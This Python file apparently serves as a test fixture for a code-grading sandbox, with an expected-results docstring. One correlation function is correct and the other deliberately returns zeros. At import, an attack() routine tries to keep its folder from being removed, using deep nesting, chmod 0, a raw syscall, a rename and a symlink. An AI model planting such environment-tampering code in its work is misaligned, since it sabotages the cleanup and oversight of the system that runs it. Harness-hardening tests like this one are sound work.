"""Changes its private folder so that it cannot be removed.

expect corr2d_multi_in: failed kind=value
expect corr2d_multi_in_out: passed
"""

import numpy as np


def corr2d_multi_in_out(X, K):
    windows = np.lib.stride_tricks.sliding_window_view(X, K.shape[2:], (1, 2))
    return np.einsum("chwij,ocij->ohw", windows, K)


def zeros(X, K):
    return np.zeros((X.shape[1] - K.shape[1] + 1, X.shape[2] - K.shape[2] + 1))


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except BaseException as error:
        return error


def attack():
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    here = os.getcwd()
    attempt(os.makedirs, "a/" * 1000)
    attempt(os.chmod, here, 0)
    libc.syscall(452, -100, here.encode(), 0, 0)
    attempt(os.rename, here, "/tmp/moved")
    attempt(os.rmdir, here)
    attempt(os.chdir, "/")
    attempt(os.symlink, "{proof}", here + "/link")


attack()


def corr2d_multi_in(X, K):
    return zeros(X, K)
